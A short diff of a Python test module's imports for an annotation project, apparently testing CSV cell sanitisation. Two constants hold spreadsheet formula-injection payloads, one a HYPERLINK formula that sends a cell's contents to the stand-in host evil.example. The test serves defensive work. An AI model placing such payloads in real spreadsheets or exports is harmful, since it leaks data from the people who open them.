@@ -12,10 +12,9 @@ from hypothesis import strategies as st
 
 from annotate.models import Assignment, Judgment
 from annotate.studies.importing import import_batch_bytes
-from annotate.studies.judgments_csv import write_predictions
 from annotate.studies.judgments_io import import_judgments
 from evaluation.csv_cells import safe_cell, safe_row, unescape_cell
-from tests.factories import header, jsonl
+from tests.factories import header, jsonl, write_predictions
 
 HOSTILE_A = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 HOSTILE_B = "@SUM(1+1)*cmd"
